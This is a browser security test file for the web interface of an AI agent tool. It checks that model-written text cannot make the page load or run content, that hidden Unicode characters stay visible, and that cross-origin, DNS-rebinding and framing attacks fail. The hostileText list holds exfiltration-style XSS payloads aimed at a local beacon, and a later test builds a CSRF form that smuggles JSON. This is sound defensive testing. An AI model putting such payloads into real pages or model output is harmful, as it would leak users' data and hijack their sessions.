import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, onTestFinished } from 'vitest'
import { testWith } from '../support/needs.ts'
import { Program } from '../support/program.ts'
import { servePage, sharedBrowser, startServer } from './served-page.ts'

/** Everything that could make a page ask `beacon` for something. */
const hostileText = (beacon: string): string =>
  [
    `![beacon](${beacon}/pixel.png?secret=1)`,
    `<script>fetch("${beacon}/script")</script>`,
    `<img src="${beacon}/img.png" onerror="fetch('${beacon}/onerror')">`,
    `<svg onload="fetch('${beacon}/svg')"><image href="${beacon}/i.svg"/></svg>`,
    `[click me](javascript:fetch("${beacon}/js"))`,
    '[data](data:text/html,<script>1</script>)',
    `<iframe src="${beacon}/frame"></iframe>`,
    `<link rel="prefetch" href="${beacon}/prefetch">`,
    `<style>@import url(${beacon}/css)</style>`,
    '[a good link](https://good.invalid/page)',
  ].join('\n\n')

testWith(
  'chromium',
  'security 23: nothing a model writes makes the page load, run or leave anything',
  async () => {
    const { address, asked } = await strangePage()
    const hostile = hostileText(address)
    const served = await servePage({
      context: { viewport: { width: 1280, height: 4000 } },
      files: { 'x.txt': hostile },
      replies: [
        { text: hostile, calls: [{ name: 'read_file', input: { path: 'x.txt' } }] },
        { text: `done ${hostile}` },
      ],
    })
    const { page } = served
    await served.send(`say it ${hostile}`)
    await page.getByText('done', { exact: false }).first().waitFor()
    await page.locator('button.tool-head').first().waitFor()
    for (const head of await page.locator('button.tool-head').all()) await head.click()
    await page.locator('.tool-body').first().waitFor()
    await served.picture('hostile')

    expect(served.strangers).toEqual([])
    expect(await page.locator('.row :is(script, img, svg, iframe, link, style, object, embed)').count()).toBe(
      0,
    )
    const links = await page
      .locator('.row a')
      .evaluateAll((all) =>
        all.map((link) => [link.getAttribute('href'), link.getAttribute('rel'), link.textContent]),
      )
    expect(links.map(([href]) => href)).toContain('https://good.invalid/page')
    for (const [href = '', rel = '', text = ''] of links) {
      const { protocol, host } = new URL(href ?? '')
      expect(protocol).toMatch(/^https?:$/)
      expect(rel).toContain('noopener')
      expect(text).toContain(host)
    }
    expect(served.complaints).toEqual([])

    // And where a page had a hole, the policy would hold.
    const blocked = await page.evaluate(async (target) => {
      const image = new Image()
      const failed = new Promise((resolve) => {
        image.addEventListener('error', () => resolve('blocked'))
        image.addEventListener('load', () => resolve('loaded'))
      })
      image.src = `${target}/pixel.png`
      return failed
    }, address)
    expect(blocked).toBe('blocked')
    expect(asked).toEqual([])
  },
)

testWith(
  'chromium',
  'security 37: hidden characters are seen in all that a person decides about',
  async () => {
    const hidden = '\u202Etxet\u202C\u200B\u{E0041}'
    const question = {
      type: 'question',
      question: `Which ${hidden}?`,
      context: hidden,
      severity: 'major',
      options: [{ label: `One ${hidden}`, value: 'a', description: hidden }],
    }
    const launch = { task: `Fix ${hidden}`, context: hidden, agents: ['bob'] }
    const step = { step_number: 1, action: hidden, reason: hidden, tools_needed: [hidden], files: [hidden] }
    const served = await servePage({
      team: {
        ada: [
          { text: JSON.stringify({ goal: hidden, steps: [step], risks: [hidden], prerequisites: [hidden] }) },
          { text: JSON.stringify(question) },
          { calls: [{ name: 'launch_run', input: launch }] },
          { text: 'Over.' },
        ],
        bob: [{ text: 'x' }],
      },
      more: 'orchestrator: { interactive_mode: { enabled: true } }\n',
    })
    const { page } = served
    const expectSeen = async (name: string): Promise<void> => {
      const text = (await page.locator(name).first().textContent()) ?? ''
      expect(text).toContain('\\u{202e}')
      expect(text).not.toMatch(/[\u202A-\u202E\u200B]|\u{E0041}/u)
    }
    await served.button('Act').click()
    await served.send('go')
    await served.button('Execute Plan').waitFor()
    await expectSeen('[data-card="PlanMessageCard"]')
    await served.button('Execute Plan').click()
    await page.locator('.pending .option').waitFor()
    await expectSeen('.pending')
    await page.locator('.pending .option').click()
    await page.getByRole('region', { name: 'Launch a run?' }).waitFor()
    await expectSeen('.pending')
  },
)

testWith('chromium', 'security 20: a page of another origin can neither read nor command', async () => {
  const served = await servePage({ replies: [{ text: 'hello' }] })
  const { origin } = new URL(served.url)
  const { address: evil } = await strangePage()
  const page = await served.page.context().newPage()
  await page.goto(evil)
  const tried = await page.evaluate(async (target) => {
    const attempt = async (path: string, init: RequestInit): Promise<string> => {
      try {
        const response = await fetch(`${target}${path}`, { credentials: 'include', ...init })
        return `${response.type} ${response.status}`
      } catch (error) {
        return (error as Error).name
      }
    }
    const body = JSON.stringify({ type: 'create_chat', chat_id: 'chat_evil', folder: '/', title: 'evil' })
    return Promise.all([
      attempt('/api/chats', {}),
      attempt('/api/commands', { method: 'POST', body, headers: { 'content-type': 'application/json' } }),
      attempt('/api/commands', { method: 'POST', body, headers: { 'content-type': 'text/plain' } }),
      attempt('/api/commands', { method: 'POST', body, mode: 'no-cors' }),
    ])
  }, origin)
  expect(tried).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError'])

  const answered = page.waitForResponse((response) => response.url().startsWith(`${origin}/api/commands`))
  await page.evaluate((target) => {
    const form = document.createElement('form')
    Object.assign(form, { method: 'post', action: `${target}/api/commands`, enctype: 'text/plain' })
    const input = document.createElement('input')
    Object.assign(input, { name: '{"type":"create_chat","x":"', value: '"}' })
    form.append(input)
    document.body.append(form)
    form.submit()
  }, origin)
  expect((await answered).status()).toBe(403)
  const { stdout } = await served.program.run(['sessions', 'list', '--output-format', 'json'])
  expect(stdout).not.toContain('evil')
})

testWith('chromium', 'security 20: a name that resolves to this machine is not this server', async () => {
  const program = new Program()
  const { url } = await startServer(program, { replies: [{ text: 'hello' }] })
  const { port, search } = new URL(url)
  const { chromium } = await import('playwright-core')
  const browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    args: ['--no-sandbox', '--host-resolver-rules=MAP rebound.test 127.0.0.1'],
  })
  onTestFinished(() => browser.close())
  const page = await browser.newPage()
  const first = await page.goto(`http://rebound.test:${port}/${search}`)
  expect(first?.status()).toBe(403)
  const inside = await page.evaluate(async () => (await fetch('/api/health')).status)
  expect(inside).toBe(403)
})

testWith(
  'chromium',
  'security 20: the page cannot be framed, and without its cookie it shows nothing',
  async () => {
    const served = await servePage({ replies: [{ text: 'hello' }] })
    const { origin } = new URL(served.url)
    const context = await (await sharedBrowser()).newContext()
    onTestFinished(() => context.close())
    const stranger = await context.newPage()
    expect((await stranger.goto(origin))?.status()).toBe(401)
    expect(new URL(served.page.url()).search).toBe('')
    const cookies = await served.page.context().cookies()
    expect(cookies.map(({ httpOnly, sameSite }) => ({ httpOnly, sameSite }))).toEqual([
      { httpOnly: true, sameSite: 'Strict' },
    ])

    await stranger.goto((await strangePage()).address)
    await stranger.evaluate((target) => {
      const frame = document.createElement('iframe')
      frame.src = target
      document.body.append(frame)
    }, origin)
    await stranger.waitForTimeout(500)
    const texts = await Promise.all(
      stranger
        .frames()
        .slice(1)
        .map((frame) => frame.content().catch(() => '')),
    )
    expect(texts.join('')).not.toContain('id="app"')
  },
)

/** A page of another origin: same machine, other port. `asked` is what was asked of it. */
async function strangePage(): Promise<{ address: string; asked: string[] }> {
  const asked: string[] = []
  const server = createServer(({ url = '' }, response) => {
    asked.push(url)
    response.setHeader('content-type', 'text/html')
    response.end('<!doctype html><title>evil</title><body></body>')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => void server.close())
  return { address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked }
}
